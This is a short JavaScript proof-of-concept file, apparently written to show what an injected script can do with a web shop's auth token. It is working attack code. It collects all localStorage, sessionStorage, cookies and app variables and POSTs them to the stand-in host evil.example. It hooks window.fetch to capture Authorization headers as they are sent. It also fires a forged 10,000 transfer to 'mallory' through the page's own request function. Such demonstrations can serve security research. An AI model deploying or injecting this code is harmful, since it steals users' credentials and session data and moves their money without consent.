// Tries what a script of this page can do with the token, a second apart: reads every place, listens to the page's own
// requests, and has the page's own way of sending make a transfer.
var riding = false;
function send(what) {
  original('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
}
var original = window.fetch;
setTimeout(function () {
  var found = { localStorage: {}, sessionStorage: {}, variables: {}, cookie: document.cookie };
  for (var i = 0; i < localStorage.length; i++) {
    found.localStorage[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
  }
  for (var j = 0; j < sessionStorage.length; j++) {
    found.sessionStorage[sessionStorage.key(j)] = sessionStorage.getItem(sessionStorage.key(j));
  }
  for (var name in window.shop) {
    found.variables[name] = window.shop[name];
  }
  send(found);
  window.fetch = function (address, details) {
    var header = details && details.headers && details.headers.Authorization;
    if (header && !riding) {
      send({ requestHeader: header });
    }
    return original(address, details);
  };
}, 1000);
setTimeout(function () {
  riding = true;
  window.shop.request('POST', 'https://api.shop.example/transfer', '{"to":"mallory","amount":10000}').then(function () {
    riding = false;
  });
}, 2000);
